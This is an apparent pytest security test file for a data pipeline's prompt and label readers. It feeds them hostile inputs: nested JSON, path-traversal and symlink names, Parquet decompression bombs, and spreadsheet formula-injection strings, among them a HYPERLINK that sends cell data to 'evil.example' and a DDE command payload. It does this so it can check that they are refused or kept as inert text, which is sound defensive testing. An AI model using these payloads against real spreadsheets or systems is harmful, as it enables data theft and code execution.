"""Data files that attack: JSON lines, CSV and Parquet as prompts and as labelled pairs."""

from __future__ import annotations

import csv
import io
import json
import os
import resource
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from pydantic import ValidationError

from rlaif_dagster.errors import LONGEST, UserError
from rlaif_dagster.home import CHECKOUT, Home
from rlaif_dagster.judging.labels import read_labelled
from rlaif_dagster.language.base_model import load
from rlaif_dagster.prompts import read_prompts
from rlaif_dagster.spec.labels import LabelledPairs
from rlaif_dagster.spec.model import Hub, ModelSpec
from rlaif_dagster.spec.prompts import PromptSource, PromptSources
from rlaif_dagster.warehouse.sql import query
from rlaif_dagster.warehouse.store import Warehouse

ROW = {"text": "What is it?", "prompt": "What is it?", "answer_a": "This.", "answer_b": "That.", "preferred": "a"}


def prompts(folder: Path, file: str) -> pd.DataFrame:
    source = PromptSource(file=file, constant_split="train", constant_category="factual")
    return read_prompts(PromptSources(sources=(source,)), folder)


def labels(folder: Path, file: str) -> Any:
    return read_labelled(LabelledPairs(file=file, constitutions=("any",)), folder)


READERS: list[Callable[[Path, str], Any]] = [prompts, labels]


@pytest.mark.parametrize("read", READERS)
@pytest.mark.parametrize(
    ("line", "told"),
    [
        ("[" * 200_000 + "]" * 200_000, "too many lists and objects inside one another"),
        ('{"text": ' + "9" * 6_000 + "}", "not valid JSON: Exceeds the limit"),
        (json.dumps(ROW | {"text": "\ud800", "answer_a": "\ud800"}), "unicode|lone surrogate"),
        (json.dumps({"k" * 1_000_000: 1}), "no value in column|is missing"),
        (json.dumps({"\x1b]0;owned\x07": 1}), r"\\x1b\]0;owned\\x07"),
        ('{"text": NaN, "prompt": NaN}', "found nan"),
        ('{"text": null, "prompt": null}', "no value in column|found None"),
        ('{"text": "\x00"', "not valid JSON"),
    ],
)
def test_a_hostile_line_is_told_in_one_line(
    read: Callable[[Path, str], Any], line: str, told: str, tmp_path: Path
) -> None:
    (tmp_path / "rows.jsonl").write_text(line + "\n")
    with pytest.raises(UserError, match=told) as error:
        read(tmp_path, "rows.jsonl")
    assert len(str(error.value)) <= LONGEST + 1
    assert str(error.value).isprintable()


@pytest.mark.parametrize("read", READERS)
def test_a_name_does_not_lead_out_of_its_folder(read: Callable[[Path, str], Any], tmp_path: Path) -> None:
    folder = tmp_path / "prompts"
    folder.mkdir()
    (tmp_path / "secret.jsonl").write_text("hunter2:x:0:0\n")
    (folder / "link.jsonl").symlink_to(tmp_path / "secret.jsonl")
    (folder / "folder").symlink_to(tmp_path)
    for name in ("../secret.jsonl", str(tmp_path / "secret.jsonl"), "link.jsonl", "folder/secret.jsonl"):
        with pytest.raises(UserError, match="which is not inside this folder; put a copy of the file there") as error:
            read(folder, name)
        assert "hunter2" not in str(error.value)
    (folder / "inside.jsonl").write_text(json.dumps(ROW) + "\n")
    (folder / "same.jsonl").symlink_to("inside.jsonl")
    assert len(read(folder, "same.jsonl")) == 1


@pytest.mark.parametrize("read", READERS)
def test_a_pipe_is_not_waited_for(read: Callable[[Path, str], Any], tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "rows.jsonl")
    with pytest.raises(UserError, match=r"not an ordinary file|no such file"):
        read(tmp_path, "rows.jsonl")


BOMB_ROWS = 2_000_000


def bomb(path: Path, rows: int, characters: int) -> None:
    """A Parquet file of one text, `rows` times: a dictionary of one entry and runs of zeros."""
    column = pa.DictionaryArray.from_arrays(pa.array([0] * rows, pa.int32()), ["x" * characters])
    pq.write_table(pa.table({"text": column, "prompt": column}), path, compression="zstd")


@pytest.mark.parametrize("which", ["prompts", "labels"])
@pytest.mark.parametrize(("rows", "characters"), [(BOMB_ROWS, 1_000), (900_000, 20_000)])
def test_a_small_file_that_unfolds_to_gigabytes_is_refused(
    which: str, rows: int, characters: int, tmp_path: Path
) -> None:
    """4 and 36 gigabytes of text in a file of a megabyte, read in a process that may have 4 gigabytes in all."""
    bomb(tmp_path / "rows.parquet", rows, characters)
    assert (tmp_path / "rows.parquet").stat().st_size < 2_000_000
    code = (
        "import sys, pathlib\nfrom tests.security import test_untrusted_rows as t\nfrom rlaif_dagster.errors import UserError\n"
        f"try:\n t.{which}(pathlib.Path(sys.argv[1]), 'rows.parquet')\nexcept UserError as e:\n print(e)"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, str(tmp_path)], cwd=CHECKOUT, timeout=120, capture_output=True, text=True, check=False,
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_AS, (4 << 30, 4 << 30)),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-800:]
    # whichever comes first: the bound on rows, the bound on characters, or the same text twice
    assert "take a part of it" in done.stdout or "repeats" in done.stdout or "is missing" in done.stdout


def test_a_file_that_only_claims_to_be_parquet(tmp_path: Path) -> None:
    for content in (b"PAR1" + b"\0" * 100 + b"PAR1", b"PAR1" + b"\xff" * 8 + b"PAR1", b"", b"PK\x03\x04"):
        (tmp_path / "rows.parquet").write_bytes(content)
        for read in READERS:
            with pytest.raises(UserError, match="not a Parquet file"):
                read(tmp_path, "rows.parquet")


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "@SUM(A1)",
    "-2+3",
    "<img src=x onerror=alert(1)>",
]


def test_formulas_and_markup_stay_the_text_that_they_are(tmp_path: Path) -> None:
    with (tmp_path / "rows.csv").open("w", newline="") as file:
        csv.writer(file).writerows([["text"], *([text] for text in FORMULAS)])
    assert prompts(tmp_path, "rows.csv")["text"].tolist() == FORMULAS
    pq.write_table(pa.table({"text": FORMULAS}), tmp_path / "rows.parquet")
    assert prompts(tmp_path, "rows.parquet")["text"].tolist() == FORMULAS


def test_what_leaves_as_csv_is_quoted_and_comes_back_equal(home: Home, tmp_path: Path) -> None:
    hostile = [*FORMULAS, 'a","b', "a\nb,c", "a\rb"]
    (tmp_path / "rows.jsonl").write_text("".join(json.dumps({"text": text}) + "\n" for text in hostile))
    Warehouse(home.warehouse).write("prompts", prompts(tmp_path, "rows.jsonl"))
    text = query(home, "select text from prompts", "csv")
    assert isinstance(text, str)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert sorted(row[0] for row in rows[1:]) == sorted(hostile)
    assert all(len(row) == 1 for row in rows)


@pytest.mark.parametrize("name", ["../private", "/etc", "text", "./a", "a/../b", "a/..", ".ssh/keys", "a/b/c"])
def test_a_dataset_of_the_hub_is_no_folder_of_this_machine(name: str) -> None:
    """Nor `text`, `json` or `csv`, with which its library reads whatever lies in the folder that it runs in."""
    with pytest.raises(ValidationError, match="pattern"):
        PromptSource.model_validate({"hub": {"dataset": name}})
    with pytest.raises(ValidationError, match="pattern"):
        Hub(repo=name, revision="main")


def test_a_folder_that_has_a_name_of_the_hub_is_not_read_in_its_place(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "documents" / "private").mkdir(parents=True)
    (tmp_path / "documents" / "private" / "train.txt").write_text("a secret\n")
    monkeypatch.chdir(tmp_path)
    hub = {"dataset": "documents/private"}
    source = {"hub": hub, "constant_split": "train", "constant_category": "factual"}
    with pytest.raises(UserError, match=r"documents/private: found in the folder .*in place of the hub's"):
        read_prompts(PromptSources.model_validate({"sources": [source]}), tmp_path)
    with pytest.raises(UserError, match="documents/private: found in the folder"):
        load("m", ModelSpec.model_validate({"hub": {"repo": "documents/private", "revision": "main"}}), Home(tmp_path))
